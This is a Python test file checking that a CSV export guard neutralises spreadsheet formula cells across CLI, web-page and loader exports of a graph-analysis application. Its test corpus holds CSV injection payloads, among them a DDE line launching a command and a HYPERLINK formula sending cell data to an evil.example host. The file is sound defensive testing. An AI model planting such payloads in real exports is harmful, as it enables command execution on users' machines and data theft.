"""One CSV guard for every export: a corpus of formula cells and headers through each export path
(auth.exports itself, `jss query` / `jss cypher --format csv`, the patterns and console page
exports, the loader's rejects file). No Neo4j: the paths are given their rows directly."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from click.testing import CliRunner

from auth.exports import BOM, csv_text, is_dangerous, neutralise

# Each would be read as a formula (or DDE / hyperlink) by some spreadsheet.
DANGEROUS = [
    "=1+1", '=HYPERLINK("https://evil.example/?"&A2,"클릭")', "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "-2+3",
    "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\t", " =1+1", "   @x", "\u00a0=1", "\u3000=1", "\u200b=1",
    "\ufeff=1", "\u202e=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "\u22121+1", "－３", "-inf", "-nan",
    "+82 10-1234-5678", "-1_000", " -3", "-3 ", "-", "+", "@", "=", "-0x1F", "+1,2",
]
# Kept as they are: not formulas, or plain numbers (see auth/exports.py for why those are safe).
SAFE = ["", "김영희", "a=b", "3-1", "P-1", "010-1234-5678", "'=already quoted", "-3", "+82", "-12.5", "+0.5",
        "-.5", "-1e5", "-1E-3", "2023-03-02", "제주시 연삼로 1"]


def _cells(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM):])))


def _check(rows: list[list[str]], headers: list[Any], values: list[Any]) -> None:
    """Every header and cell is the neutralised text of what went in."""
    assert rows[0] == [neutralise(h) for h in headers]
    assert [r[0] for r in rows[1:]] == [neutralise(v) for v in values]
    for got, value in zip([r[0] for r in rows[1:]], values, strict=True):
        assert got == ("'" + value if value in DANGEROUS else value), repr(value)


def test_the_guard_on_the_corpus() -> None:
    for value in DANGEROUS:
        assert is_dangerous(value), repr(value)
        assert neutralise(value) == "'" + value
    for value in SAFE:
        assert not is_dangerous(value), repr(value)
        assert neutralise(value) == value
    assert [neutralise(v) for v in (-3, 2.5, -2.5, None, True)] == ["-3", "2.5", "-2.5", "", "True"]
    assert neutralise(float("-inf")) == "'-inf"


def test_values_are_rendered_readably() -> None:
    assert neutralise(["김영희", "P-1"]) == "김영희; P-1"
    assert neutralise(["=a", "b"]) == "'=a; b"
    assert neutralise({"name": "김영희", "n": 2}) == "name: 김영희, n: 2"
    assert neutralise({"=k": 1}) == "'=k: 1"
    assert neutralise(datetime(2023, 3, 2, 14, 5)) == "2023-03-02T14:05:00"
    assert neutralise([date(2023, 3, 2), None]) == "2023-03-02; "


def test_csv_text_neutralises_headers_and_cells_with_a_bom() -> None:
    headers = ["value", *DANGEROUS[:5]]
    rows = [{h: v for h in headers} for v in DANGEROUS + SAFE]
    text = csv_text(headers, rows)
    parsed = _cells(text)
    assert parsed[0] == ["value"] + ["'" + h for h in DANGEROUS[:5]]
    _check(parsed, headers, DANGEROUS + SAFE)
    assert all(len(r) == len(headers) for r in parsed)
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")     # Excel on Korean Windows reads Hangul
    assert csv_text(["a"], [{"a": "x"}], headers={"a": "=이름"}) == BOM + "'=이름\r\nx\r\n"
    with pytest.raises(ValueError):
        csv_text(["a", "b"], [], headers=["one"])


# --- the CLI ---------------------------------------------------------------------------------------
class _FakeRunner:
    """Stands in for graph.runner.Runner: returns the corpus as a query result."""
    columns: list[str] = []
    rows: list[dict[str, Any]] = []

    def __init__(self, *_: Any, **__: Any) -> None:
        pass

    def __enter__(self) -> _FakeRunner:
        return self

    def __exit__(self, *_: Any) -> None:
        pass

    def read(self, *_: Any, **__: Any) -> SimpleNamespace:
        return SimpleNamespace(columns=self.columns, rows=self.rows, truncated=False)


@pytest.fixture
def corpus_runner(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    headers = ["=HYPERLINK(\"x\")", "value"]
    values = DANGEROUS + SAFE
    _FakeRunner.columns = headers
    _FakeRunner.rows = [{headers[0]: v, "value": v} for v in values]
    import cli.cypher
    import cli.query

    monkeypatch.setattr(cli.cypher, "Runner", _FakeRunner)
    monkeypatch.setattr(cli.query, "Runner", _FakeRunner)
    return values


@pytest.mark.parametrize("args", [["cypher", "RETURN 1", "--format", "csv"],
                                  ["query", "children_exposed", "--format", "csv"]])
def test_cli_csv_exports(corpus_runner: list[Any], args: list[str]) -> None:
    from cli.main import cli

    out = CliRunner().invoke(cli, args)
    assert out.exit_code == 0, out.output
    parsed = list(csv.reader(io.StringIO(out.stdout)))
    assert parsed[0] == ["'=HYPERLINK(\"x\")", "value"]
    _check(parsed, _FakeRunner.columns, corpus_runner)


# --- the app's exports -----------------------------------------------------------------------------
@pytest.fixture
def app_request(monkeypatch: pytest.MonkeyPatch):
    """A request of a signed-in admin to the shared test app (no Neo4j is touched: the tests
    replace what reads the rows)."""
    import flask

    from auth import testing

    app = testing.shared_app()
    with app.server.test_request_context("/"):
        flask.session["jss_user"] = {"username": testing.username("admin"), "role": "admin", "display_name": ""}
        yield app


def test_patterns_export(app_request: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from pages import patterns

    values = DANGEROUS + SAFE
    columns = ["name", "=cmd|' /C calc'!A0"]
    rows = [{"name": v, columns[1]: v} for v in values]
    _check(_cells(patterns.export_csv(columns, rows, "en")), [patterns.column(c, "en") for c in columns], values)
    # The callback itself, with the table's rows given directly.
    monkeypatch.setattr(patterns, "export_rows", lambda *_: (columns, rows, False))
    got = patterns.on_csv(1, "repeat_victims", [], None)
    assert got["filename"] == "repeat_victims.csv"
    parsed = _cells(got["content"])
    assert parsed[0][1] == "'=cmd|' /C calc'!A0"
    _check(parsed, [patterns.column(c, "ko") for c in columns], values)


def test_console_export(app_request: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from pages import console

    values = DANGEROUS + SAFE
    columns = ["@evil", "n"]
    result = SimpleNamespace(columns=columns, rows=[{"@evil": v, "n": v} for v in values], truncated=False)
    monkeypatch.setattr(console, "_execute", lambda *_, **__: (None, {}, result))
    query = "MATCH (n) RETURN n.x AS `@evil`"
    download, _status = console.export(1, query, "{}")
    parsed = _cells(download["content"])
    assert parsed[0] == ["'@evil", "n"]
    _check(parsed, columns, values)
    from auth import audit

    last = list(audit.iter_entries())[-1]          # the export is audited with the query that made it
    assert (last["event"], last["target"], last["query_text"], last["detail"]["rows"]) == \
        ("export", "console", query, len(values))


def test_loader_rejects_file(tmp_path: Path) -> None:
    from loaders.validate import Problem, write_rejects

    out = tmp_path / "rejects.csv"
    values = DANGEROUS + SAFE
    write_rejects(out, [Problem("calls", i, "=bad header", v, "bad_date") for i, v in enumerate(values)])
    with out.open(encoding="utf-8-sig", newline="") as fh:
        parsed = list(csv.reader(fh))
    assert [r[3] for r in parsed[1:]] == [neutralise(v) for v in values]
    assert {r[2] for r in parsed[1:]} == {"'=bad header"}
